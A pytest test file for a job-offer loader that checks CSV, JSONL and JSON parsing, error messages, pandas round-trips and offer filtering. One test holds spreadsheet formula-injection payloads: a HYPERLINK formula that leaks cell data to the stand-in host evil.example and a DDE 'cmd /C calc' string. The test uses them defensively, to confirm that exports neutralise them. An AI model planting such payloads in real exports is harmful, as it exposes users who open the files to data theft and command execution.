"""Reading offers files: CSV (strict RFC 4180, any delimiter), JSONL, JSON, and their errors;
CSV exports that spreadsheets cannot run."""

from __future__ import annotations

import json
import random

import pandas as pd
import pytest

from jobmatch.artifacts import atomic_write_csv, csv_text
from jobmatch.offers import OffersFileError, load_offers, parse_offers


def test_csv_with_semicolons_bom_and_extra_columns(tmp_path):
    path = tmp_path / "offers.csv"
    path.write_text(
        "\ufeffid;title;company;location;description;contract\n"
        "7;Data engineer;Acme;Lyon;Spark, Airflow;CDI\n"
        '8;Chef;Bistrot;Nantes;"Cuisine; gestion des stocks";CDD\n',
        encoding="utf-8",
    )
    offers = load_offers(path)
    assert [o.id for o in offers] == ["7", "8"]
    assert offers[1].description == "Cuisine; gestion des stocks"
    assert offers[0].extra == {"contract": "CDI"}
    assert offers[0].to_record()["contract"] == "CDI"
    assert offers[0].text == "Data engineer\nSpark, Airflow"


def test_jsonl_missing_ids_get_stable_content_ids_and_duplicates_stay_distinct(tmp_path):
    path = tmp_path / "offers.jsonl"
    rows = [
        {"title": "A", "description": "first"},
        {"id": "x", "title": "B", "description": "second", "salaire": {"libelle": "2k"}},
        {"id": "x", "title": "C", "description": "third"},
    ]
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n\n", encoding="utf-8")
    offers = load_offers(path)
    assert len(offers[0].id) == 16 and offers[0].id == load_offers(path)[0].id
    assert [o.id for o in offers[1:]] == ["x", "x~2"]
    assert json.loads(offers[1].extra["salaire"]) == {"libelle": "2k"}


def test_json_list_and_cp1252_csv():
    assert parse_offers(b'[{"id": 1, "description": "d"}]', "o.json")[0].id == "1"
    offers = parse_offers("id,description\n1,Expérience\n".encode("cp1252"), "o.csv")
    assert offers[0].description == "Expérience"


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "o.csv", "no offers"),
        (b"id,title\n1,A\n", "o.csv", "no 'description' column"),
        (b'{"id": 1}\nnot json\n', "o.jsonl", "line 2: not valid JSON"),
        (b"[1, 2]", "o.json", "list of objects"),
        (b"anything", "o.xlsx", "unsupported offers file type"),
        (b"[" * 200_000 + b"]" * 200_000, "o.json", "nested too deeply"),
        (b'{"a": ' * 100_000 + b"1" + b"}" * 100_000, "o.jsonl", "line 1: JSON nested too deeply"),
    ],
)
def test_bad_offers_files_give_clear_messages(content, name, message):
    with pytest.raises(OffersFileError, match=message):
        parse_offers(content, name)


def test_missing_file(tmp_path):
    with pytest.raises(OffersFileError, match="not found"):
        load_offers(tmp_path / "nope.csv")


def test_jsonl_keeps_unicode_line_separators_inside_strings():
    first = '{"id": "1", "description": "Missions\u2028- Python\u2029- SQL"}'
    offers = parse_offers(f'{first}\r\n{{"id": "2", "description": "x"}}'.encode(), "o.jsonl")
    assert [o.id for o in offers] == ["1", "2"]
    assert offers[0].description == "Missions\u2028- Python\u2029- SQL"


# A lone carriage return is left out: pandas writes it unquoted, so no reader can tell it from
# a line end (pandas' own read_csv neither); "\r\n" inside a field is quoted and kept.
ALPHABET = [*"abc XYZ,;\"'\t\n=+-@éàç€—…0123456789", "\u2028", '""', "\r\n"]


def random_text(rng: random.Random, longest: int = 40) -> str:
    return "".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, longest))).strip()


@pytest.mark.parametrize("seed", range(60))
def test_any_csv_written_by_pandas_reads_back_identical(seed: int) -> None:
    """Property: random offers with quotes, line breaks, delimiters and accents survive
    pandas' ``to_csv`` (any of the three delimiters) and our reader unchanged."""
    rng = random.Random(seed)
    rows = [
        {
            "id": f"o{n}",
            "title": random_text(rng, 20),
            "company": random_text(rng, 10),
            "location": random_text(rng, 10),
            "description": random_text(rng, 200) or "x",
            "url": "",
            "notes": random_text(rng, 30),
        }
        for n in range(rng.randint(1, 12))
    ]
    frame = pd.DataFrame(rows)
    delimiter = rng.choice([",", ";", "\t"])
    data = frame.to_csv(index=False, sep=delimiter).encode("utf-8")
    offers = parse_offers(data, "offers.tsv" if delimiter == "\t" else "offers.csv")
    assert len(offers) == len(rows)
    for offer, row in zip(offers, rows, strict=True):
        record = offer.to_record()
        for key, value in row.items():
            assert record[key] == value.strip(), (key, value)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'id,description\n1,"never closed\n2,b\n', "line 2: not valid CSV"),
        (b"id,description\n1,a\n2,b,c\n", "line 3: 3 fields where the header has 2"),
        (b"id,description\n1\n", "line 2: 1 fields where the header has 2"),
    ],
)
def test_ragged_rows_and_unclosed_quotes_are_refused_with_their_line(content, message):
    with pytest.raises(OffersFileError, match=message):
        parse_offers(content, "o.csv")


def test_rfc4180_csv_with_doubled_quotes_and_line_breaks_is_one_offer_per_record():
    frame = pd.DataFrame(
        {
            "id": ["1", "2"],
            "description": ['Il a dit ""oui"", puis:\n- Python\n- "SQL"', "simple"],
        }
    )
    offers = parse_offers(frame.to_csv(index=False).encode(), "o.csv")
    assert [o.description for o in offers] == list(frame["description"])


def test_exports_neutralise_formula_cells(tmp_path):
    frame = pd.DataFrame(
        {
            "title": ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", "ok"],
            "note": ["@SUM(1+1)", "-12.5", "\tx"],
            "score": [-3.0, 1.5, 2.0],
        }
    )
    path = atomic_write_csv(tmp_path / "out.csv", frame)
    back = pd.read_csv(path, keep_default_na=False)
    assert back["title"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?x="&A1)',
        "'+cmd|' /C calc'!A0",
        "ok",
    ]
    assert back["note"].tolist()[:2] == ["'@SUM(1+1)", "-12.5"]  # a number stays a number
    assert back["note"].tolist()[2] == "'\tx"
    assert back["score"].tolist() == [-3.0, 1.5, 2.0]
    assert csv_text(frame) == path.read_text(encoding="utf-8")


def test_offers_are_filtered_by_source_and_publication_date():
    from datetime import date

    from jobmatch.i18n import language
    from jobmatch.offers import (
        Offer,
        filter_offers,
        published_on,
        source_label,
        with_source,
    )

    scraped = Offer("1", "A", extra={"source": "hellowork", "published_at": "2026-12-03T09:00:00Z"})
    demo = Offer("2", "B", extra={"published": "2026-11-10"})
    undated = Offer("3", "C", extra={"published_at": "yesterday"})
    offers = [scraped, *with_source([demo, undated], "demo")]
    assert [o.extra["source"] for o in offers] == ["hellowork", "demo", "demo"]  # kept, then set
    assert published_on(scraped) == date(2026, 12, 3) and published_on(undated) is None
    today = date(2026, 12, 4)
    assert filter_offers(offers, today=today) == offers
    assert [o.id for o in filter_offers(offers, {"demo"}, today=today)] == ["2", "3"]
    assert [o.id for o in filter_offers(offers, (), "week", today)] == ["1"]  # undated: out
    assert [o.id for o in filter_offers(offers, (), "month", today)] == ["1", "2"]
    with language("fr"):
        assert [source_label(s) for s in ("hellowork", "demo", "paste", "", "o.csv")] == [
            "HelloWork",
            "Offres de démonstration",
            "Collées",
            "Autre",
            "o.csv",
        ]
